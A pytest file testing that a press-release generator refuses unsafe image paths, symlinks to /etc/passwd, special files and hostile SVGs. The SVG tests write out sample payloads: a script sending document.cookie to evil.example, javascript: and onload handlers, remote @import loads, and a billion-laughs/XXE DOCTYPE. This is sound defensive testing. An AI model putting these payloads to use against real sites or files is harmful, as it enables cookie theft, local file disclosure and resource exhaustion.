"""Files a milestone names: only a checked image from inside the project is ever published.

Each test puts a real file (or link, pipe, folder…) where the example's image is, or names one,
and asserts the exact located message; the last ones build and check that nothing was copied.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from pressgen.errors import PressgenError
from pressgen.pipeline import load_project, render_project
from pressgen.project.files import LIMIT, Refusal, VerifiedFile, check_files, check_project_file
from pressgen.project.layout import Layout
from pressgen.render import formats
from helpers import JPEG, REPO, copy_example, picture, png, run_pressgen, tree

IMAGE_LINE = "      file: images/bravo-paris.svg"
LINE = (REPO / "milestones.yaml").read_text(encoding="utf-8").splitlines().index(IMAGE_LINE) + 1
WHERE = f"milestones.yaml:{LINE}:13: error: paris-2-millions.image.file: "
INSIDE = "give the path of a file inside the project folder, from the folder of milestones.yaml (images/photo.jpg)"


CLEAN_SVG = (REPO / "images" / "bravo-paris.svg").read_bytes()


def name_image(project: Path, value: str) -> None:
    """Point the example's image at ``value`` (single-quoted, so YAML reads it as it is)."""
    source = project / "milestones.yaml"
    text = source.read_text(encoding="utf-8")
    quoted = value.replace("'", "''")
    source.write_text(text.replace(IMAGE_LINE, f"      file: '{quoted}'"), encoding="utf-8")


def problems(project: Path) -> list[tuple[str, str]]:
    """(first line, hint line) of every problem that loading ``project`` reports."""
    with pytest.raises(PressgenError) as caught:
        load_project(Layout(project))
    out = []
    for problem in caught.value.problems:
        lines = problem.format().splitlines()
        out.append((lines[0], next((line.strip() for line in lines if line.strip().startswith("hint:")), "")))
    return out


def refused(project: Path, value: str) -> tuple[str, str]:
    name_image(project, value)
    [found] = problems(project)
    return found


# -- the path: inside the project, no link, a regular file -----------------------------------------
@pytest.mark.parametrize("value", ["../../../../etc/passwd", "images/../../outside.png", "../../../../../../dev/zero"])
def test_a_path_going_up_is_refused(project: Path, value: str) -> None:
    assert refused(project, value) == (WHERE + f"'{value}' goes up out of its folder with '..'", "hint: " + INSIDE)


@pytest.mark.parametrize("value", ["/etc/passwd", "/proc/self/environ", "/dev/zero", "C:/Users/photo.png", r"\\server\photo.png"])
def test_an_absolute_path_is_refused(project: Path, value: str) -> None:
    assert refused(project, value) == (WHERE + f"'{value}' is an absolute path", "hint: " + INSIDE)


def test_a_symlink_to_etc_passwd_is_refused_without_reading_it(project: Path) -> None:
    (project / "images" / "passwd.png").symlink_to("/etc/passwd")
    assert refused(project, "images/passwd.png") == (
        WHERE + "'images/passwd.png' is a symbolic link (to '/etc/passwd')",
        "hint: copy the file itself into the project: pressgen publishes no linked file, whose content is not part of the project")


@pytest.mark.parametrize("target", ["/dev/zero", "/proc/self/environ"])
def test_a_symlink_to_a_device_or_proc_is_refused(project: Path, target: str) -> None:
    (project / "images" / "link.png").symlink_to(target)
    assert refused(project, "images/link.png")[0] == WHERE + f"'images/link.png' is a symbolic link (to '{target}')"


def test_a_symlink_to_an_image_outside_the_project_is_refused(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "secret.png"
    outside.write_bytes(png())
    (project / "images" / "photo.png").symlink_to(outside)
    assert refused(project, "images/photo.png")[0] == WHERE + f"'images/photo.png' is a symbolic link (to '{outside}')"


def test_a_symlink_inside_the_project_is_refused_too(project: Path) -> None:
    # Decided: no link is followed, even one pointing inside (its target is not what reviewers see).
    (project / "images" / "alias.svg").symlink_to("bravo-paris.svg")
    assert refused(project, "images/alias.svg")[0] == WHERE + "'images/alias.svg' is a symbolic link (to 'bravo-paris.svg')"


def test_a_linked_folder_is_refused(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "photo.png").write_bytes(png())
    (project / "pictures").symlink_to(outside)
    assert refused(project, "pictures/photo.png")[0] == (
        WHERE + f"'pictures/photo.png': 'pictures' is a symbolic link (to '{outside}')")


def test_a_fifo_is_refused_without_blocking(project: Path) -> None:
    os.mkfifo(project / "images" / "pipe.png")  # nobody writes to it: opening it to read would block
    assert refused(project, "images/pipe.png") == (
        WHERE + "'images/pipe.png' is a named pipe, not a file", "hint: give the path of an image file")


def test_a_device_inside_the_project_is_refused_without_reading_it(project: Path) -> None:
    try:
        os.mknod(project / "images" / "zero.png", stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero
    except PermissionError:
        pytest.skip("creating a device needs root")
    assert refused(project, "images/zero.png")[0] == WHERE + "'images/zero.png' is a device, not a file"


def test_a_folder_is_refused(project: Path) -> None:
    (project / "images" / "photos.png").mkdir()
    assert refused(project, "images/photos.png") == (
        WHERE + "'images/photos.png' is a folder, not a file", "hint: give the path of the image inside it")


def test_a_missing_file_is_refused(project: Path) -> None:
    assert refused(project, "images/missing.png") == (
        WHERE + "no file 'images/missing.png' in the project folder",
        "hint: check the spelling: the path is from the folder of milestones.yaml")


@pytest.mark.parametrize(("value", "message", "hint"), [
    (".git/photo.png", "'.git/photo.png' is inside the hidden folder '.git': hidden files are never published",
     "hint: move the file to a folder whose name does not start with '.'"),
    ("images/.photo.png", "'.photo.png' is a hidden file: hidden files are never published", "hint: rename it to photo.png"),
    ("out/paris-2-millions/bravo-paris.svg", "'out/paris-2-millions/bravo-paris.svg' is inside out/, which pressgen writes",
     "hint: keep the original beside milestones.yaml (in images/, say) and give its path"),
    ("images/", "'images/' does not end with a file name", "hint: " + INSIDE),
])
def test_hidden_files_out_and_folders_are_refused(project: Path, value: str, message: str, hint: str) -> None:
    assert refused(project, value) == (WHERE + message, hint)


# -- the content: an allowed kind, agreeing with the name, within the limit ------------------------
def test_an_empty_file_is_refused(project: Path) -> None:
    (project / "images" / "empty.png").write_bytes(b"")
    assert refused(project, "images/empty.png") == (
        WHERE + "'images/empty.png' is empty", "hint: give the image itself, or remove 'image:'")


def test_a_text_file_named_png_is_refused(project: Path) -> None:
    (project / "images" / "notes.png").write_text("DATABASE_PASSWORD=hunter2\n", encoding="utf-8")
    assert refused(project, "images/notes.png") == (
        WHERE + "'images/notes.png' is not a PNG image: its content is none of PNG, JPEG, WebP, GIF, AVIF or SVG",
        "hint: export it again as PNG")


def test_a_png_named_jpg_is_refused_with_its_right_name(project: Path) -> None:
    (project / "images" / "photo.jpg").write_bytes(png())
    assert refused(project, "images/photo.jpg") == (
        WHERE + "'images/photo.jpg' is a PNG image, but its name ends in .jpg",
        "hint: rename it to photo.png (and change the path here)")


def test_a_kind_that_is_not_an_image_is_refused_before_it_is_read(project: Path) -> None:
    assert refused(project, "milestones.yaml") == (
        WHERE + "'milestones.yaml' is not a kind of file a release may show (.yaml)",
        "hint: use a PNG, JPEG, WebP, GIF, AVIF or SVG image, named with its extension (.png, .jpg, .webp, .gif, .avif, .svg)")


def test_a_file_over_the_limit_is_refused_and_one_at_the_limit_accepted(project: Path) -> None:
    header = png()
    (project / "images" / "big.png").write_bytes(header + b"\0" * (LIMIT + 1 - len(header)))
    assert refused(project, "images/big.png") == (
        WHERE + "'images/big.png' is larger than 10 MB",
        "hint: make it smaller: a press image of 2,000 to 3,000 pixels across is plenty")
    (project / "images" / "limit.png").write_bytes(header + b"\0" * (LIMIT - len(header)))
    assert isinstance(check_project_file(project, "images/limit.png"), VerifiedFile)


def test_every_allowed_kind_is_recognised_by_its_content(tmp_path: Path) -> None:
    samples = {
        "a.png": png(), "a.jpg": JPEG, "a.jpeg": JPEG, "a.gif": picture("GIF"), "a.webp": picture("WEBP"),
        "a.avif": picture("AVIF"), "a.svg": CLEAN_SVG,
    }
    for name, data in samples.items():
        (tmp_path / name).write_bytes(data)
        found = check_project_file(tmp_path, name)
        assert isinstance(found, VerifiedFile) and found.data == data, (name, found)
    (tmp_path / "heic.avif").write_bytes(b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic")
    assert check_project_file(tmp_path, "heic.avif") == Refusal(
        "'heic.avif' is not an AVIF image: its content is none of PNG, JPEG, WebP, GIF, AVIF or SVG", "export it again as AVIF")


@pytest.mark.parametrize("kind", ["JPEG", "GIF", "WEBP", "AVIF", "PNG"])
def test_a_picture_whose_first_bytes_are_right_and_the_rest_is_not_is_refused(project: Path, kind: str) -> None:
    """Its size in pixels (which the sharing cards state) cannot be read: refused at its line,
    not a crash when its release is rendered."""
    data = png() if kind == "PNG" else picture(kind)
    name = f"images/cut.{'jpg' if kind == 'JPEG' else kind.lower()}"
    (project / name).write_bytes(data[:24])
    shown = {"JPEG": "JPEG", "GIF": "GIF", "WEBP": "WebP", "AVIF": "AVIF", "PNG": "PNG"}[kind]
    assert refused(project, name) == (
        WHERE + f"the {shown} '{name}' cannot be read: its first bytes say what it is, but the rest is damaged or cut short",
        "hint: export it again from the original picture")


# -- SVG: refused when it could run, load or expand anything ---------------------------------------
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">\n'
KEEP_INSIDE = "hint: keep only references inside the drawing (#name): embed what it needs, or delete the reference"


@pytest.mark.parametrize(("body", "message", "hint"), [
    ('<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
     "holds a <script> on line 2: it would run for anyone who opens the image",
     "hint: delete the <script> element: a picture needs none"),
    ('<rect width="10" height="10" onload="alert(1)"/>',
     'has an event handler onload="…" on <rect>, line 2: a script that runs for anyone who opens the image',
     "hint: delete the onload attribute"),
    ('<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">Hi</div></foreignObject>',
     "holds a <foreignObject> on line 2: it embeds a web page in the image",
     "hint: delete it, or turn its text into shapes (outlines) in the drawing program"),
    ('<image href="https://tracker.example/pixel.png" width="10" height="10"/>',
     'refers to "https://tracker.example/pixel.png" outside the drawing (<image href>, line 2): the image would load or open it',
     KEEP_INSIDE),
    ('<use xlink:href="other.svg#shape"/>',
     'refers to "other.svg#shape" outside the drawing (<use href>, line 2): the image would load or open it', KEEP_INSIDE),
    ('<a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>',
     'refers to "javascript:alert(1)" outside the drawing (<a href>, line 2): the image would load or open it', KEEP_INSIDE),
    ('<rect width="10" height="10" fill="url(https://evil.example/p.svg#g)"/>',
     "loads url(https://evil.example/p.svg#g…) from outside the drawing (<rect fill>, line 2)", KEEP_INSIDE),
    ('<style>@import "https://evil.example/font.css"; rect { fill: red }</style>',
     "has @import in its style on line 2: styles may not load, run or hide anything",
     "hint: give colours, fonts and references inside the drawing (#name) only"),
    ('<style>rect { fill: u\\72l(https://evil.example/) }</style>',
     "has a CSS escape (\\) in its style on line 2: styles may not load, run or hide anything",
     "hint: give colours, fonts and references inside the drawing (#name) only"),
    ('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a>',
     "animates the href attribute on line 2: an animated link or handler can run a script",
     "hint: delete the <set> animation"),
])
def test_an_svg_that_could_run_or_load_something_is_refused(project: Path, body: str, message: str, hint: str) -> None:
    (project / "images" / "drawing.svg").write_text(SVG_OPEN + body + "\n</svg>\n", encoding="utf-8")
    assert refused(project, "images/drawing.svg") == (WHERE + "the SVG 'images/drawing.svg' " + message, hint)


def test_an_svg_with_a_doctype_entity_is_refused_before_it_is_parsed(project: Path) -> None:
    laughs = ('<?xml version="1.0"?>\n<!DOCTYPE svg [\n <!ENTITY a "lol">\n <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">\n'
              ' <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n' + SVG_OPEN + "<text>&b;&xxe;</text>\n</svg>\n")
    (project / "images" / "laughs.svg").write_text(laughs, encoding="utf-8")
    assert refused(project, "images/laughs.svg") == (
        WHERE + "the SVG 'images/laughs.svg' has a <!DOCTYPE> declaration on line 2: "
                "it can define entities that expand into gigabytes or read other files",
        "hint: delete the <!DOCTYPE …> declaration (and what it holds): an SVG needs none")


@pytest.mark.parametrize(("text", "message"), [
    ('<?xml-stylesheet href="https://evil.example/s.css"?>\n' + SVG_OPEN + "</svg>\n",
     "holds the processing instruction <?xml-stylesheet …?> on line 1: it can load a style sheet from elsewhere"),
    ('<svg viewBox="0 0 10 10"><rect width="1" height="1"/></svg>\n',
     "has an <svg> root without the SVG namespace, so browsers would not show it"),
    (SVG_OPEN + "<rect>\n</svg>\n", "is not well-formed XML (mismatched tag, line 3)"),
])
def test_other_svg_refusals(project: Path, text: str, message: str) -> None:
    (project / "images" / "drawing.svg").write_text(text, encoding="utf-8")
    assert refused(project, "images/drawing.svg")[0] == WHERE + "the SVG 'images/drawing.svg' " + message


def test_a_clean_svg_is_accepted_and_published_byte_for_byte(project: Path) -> None:
    clean = (SVG_OPEN + '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>\n'
             '<rect width="10" height="10" fill="url(#g)" style="stroke: url( \'#g\' )"/>\n'
             '<use xlink:href="#g"/><a href="#g"><text>Paris</text></a>\n</svg>\n').encode()
    (project / "images" / "clean.svg").write_bytes(clean)
    name_image(project, "images/clean.svg")
    files = render_project(Layout(project), load_project(Layout(project))).files
    assert files["paris-2-millions/clean.svg"] == clean


def test_the_example_image_stays_accepted_and_identical(project: Path) -> None:
    files = render_project(Layout(project), load_project(Layout(project))).files
    assert files["paris-2-millions/bravo-paris.svg"] == CLEAN_SVG == (REPO / "out" / "paris-2-millions" / "bravo-paris.svg").read_bytes()


# -- the name in out/: never one pressgen writes, never another file's -----------------------------
@pytest.mark.parametrize(("name", "message", "hint"), [
    ("en.html", "the name 'en.html' is taken: pressgen writes the 'en' release as out/paris-2-millions/en.html (a standalone web page, with its styles inlined)",
     "hint: rename the file, for example to en-image.html"),
    ("fr.md", "the name 'fr.md' is taken: pressgen writes the 'fr' release as out/paris-2-millions/fr.md (the release in Markdown, one sentence per line, for review)",
     "hint: rename the file, for example to fr-image.md"),
    ("index.html", "the name 'index.html' is taken: a web server would show out/paris-2-millions/index.html as the "
                   "folder's own page (pressgen writes out/index.html)", "hint: rename the file, for example to index-image.html"),
    (".pressgen-manifest", "'.pressgen-manifest' is named like pressgen's own files (its manifest, the files it stages)",
     "hint: rename the file, for example to pressgen-manifest"),
    ("Photo Équipe (1).PNG", "'Photo Équipe (1).PNG' is not a name pressgen publishes: lower-case letters, digits, "
                            "'-' and '_', then the extension", "hint: rename the file to photo-equipe-1.png (and change the path here)"),
])
def test_a_name_pressgen_writes_or_an_unsafe_name_is_refused(project: Path, name: str, message: str, hint: str) -> None:
    (project / "images" / name).write_bytes(png())
    assert refused(project, f"images/{name}") == (WHERE + message, hint)


def test_reserved_names_come_from_the_formats_registry(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # A format added later that writes an image per language (a social card) takes fr.png and en.png.
    card = formats.Format("card", ".png", "image/png", "card", "a card for social networks")
    monkeypatch.setitem(formats.FORMATS, "card", card)
    (project / "images" / "en.png").write_bytes(png())
    assert refused(project, "images/en.png")[0] == (
        WHERE + "the name 'en.png' is taken: pressgen writes the 'en' release as out/paris-2-millions/en.png "
        "(a card for social networks)")


def test_two_files_of_one_milestone_may_not_share_a_name(tmp_path: Path) -> None:
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "photo.png").write_bytes(png())
    named = [("m.image.file", "a/photo.png"), ("m.attachments[0]", "b/photo.png"), ("m.attachments[1]", "a/photo.png")]
    assert list(check_files(tmp_path, named, {}, {})) == [
        ("m.attachments[0]", Refusal("'b/photo.png' and 'a/photo.png' would both be copied as photo.png",
                                     "rename one of the two files")),
    ]


IMAGE_OF_1_MILLION = """\
    figure: {count: 1_000_000, noun: follower}
    image:
      file: FILE
      alt: {fr: Une image, en: An image}
      credit: Ville de Paris
"""


def give_paris_1_million(project: Path, file: str) -> int:
    """An image for the second milestone too; the line of its file."""
    source = project / "milestones.yaml"
    text = source.read_text(encoding="utf-8")
    figure = "    figure: {count: 1_000_000, noun: follower}\n"
    assert text.count(figure) == 1
    text = text.replace(figure, IMAGE_OF_1_MILLION.replace("FILE", file))
    source.write_text(text, encoding="utf-8")
    return text.splitlines().index(f"      file: {file}") + 1


def test_two_milestones_may_publish_the_same_image(project: Path) -> None:
    give_paris_1_million(project, "images/bravo-paris.svg")
    files = render_project(Layout(project), load_project(Layout(project))).files
    assert files["paris-1-million/bravo-paris.svg"] == files["paris-2-millions/bravo-paris.svg"] == CLEAN_SVG


def test_every_refused_file_is_reported_at_once(project: Path) -> None:
    line = give_paris_1_million(project, "/etc/shadow")
    (project / "images" / "passwd.png").symlink_to("/etc/passwd")
    name_image(project, "images/passwd.png")
    assert [first for first, _ in problems(project)] == [
        WHERE + "'images/passwd.png' is a symbolic link (to '/etc/passwd')",
        f"milestones.yaml:{line}:13: error: paris-1-million.image.file: '/etc/shadow' is an absolute path",
    ]


# -- what is published is what was checked ---------------------------------------------------------
def test_a_file_swapped_after_the_check_is_not_published(project: Path) -> None:
    image = project / "images" / "bravo-paris.svg"
    checked = load_project(Layout(project))
    image.unlink()
    image.symlink_to("/etc/passwd")  # swapped between the check and the copy
    files = render_project(Layout(project), checked).files
    assert files["paris-2-millions/bravo-paris.svg"] == CLEAN_SVG


def test_a_build_with_a_refused_file_copies_nothing(tmp_path: Path) -> None:
    project = copy_example(tmp_path / "project", with_output=True)
    before = tree(project / "out")
    (project / "images" / "passwd.svg").symlink_to("/etc/passwd")
    name_image(project, "images/passwd.svg")
    result = run_pressgen("build", cwd=project)
    assert result.returncode == 1, result.stderr
    assert WHERE + "'images/passwd.svg' is a symbolic link (to '/etc/passwd')" in result.stderr
    assert "1 problem found; nothing was written." in result.stderr
    assert tree(project / "out") == before
    passwd = Path("/etc/passwd").read_bytes()
    assert not any(passwd in data for data in before.values())
